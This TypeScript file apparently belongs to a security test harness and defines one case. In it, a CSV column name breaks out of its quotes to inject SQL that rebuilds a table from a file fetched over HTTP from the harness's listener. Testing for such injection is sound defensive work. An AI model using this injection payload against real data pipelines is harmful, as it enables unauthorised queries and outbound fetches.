import { cell, type Attack, type Ears, type Plant } from "../attack";

/** Names that end the quotes they stand in and go on as SQL of their own. */
const injected = (name: string, plant: (ears: Ears) => Plant): Attack => ({
  name,
  door: "column name",
  way: "fetch",
  without: ["page policy", "closed engine", "quoted names"],
  plant,
});

const csv = (text: string) => `"${text.replaceAll('"', '""')}"`;

export default [
  injected("column-name-sql", ({ http }) => {
    const name = `x" FROM (SELECT 1 AS source_row, '' AS v0); CREATE OR REPLACE TABLE t AS FROM '${http}/x.csv'; SELECT source_row, v0 AS "y`;
    const columns = `{${JSON.stringify(name)}: text, date: date, amount: decimal}`;
    const body = [
      "file: column-name-sql.csv",
      'read: {format: csv, encoding: utf-8, delimiter: ",", decimal: ".", dates: yyyy-mm-dd, header: 1}',
      `columns: ${columns}`,
      `roles: {customer: ${JSON.stringify(name)}, date: date, amount: amount}`,
    ];
    return {
      cells: cell("source", "column-name-sql", body.join("\n")),
      files: [
        {
          name: "column-name-sql.csv",
          body: `${csv(name)},date,amount\nK1,2024-01-01,5\nK2,2024-02-01,6\n`,
        },
      ],
    };
  }),
] satisfies Attack[];
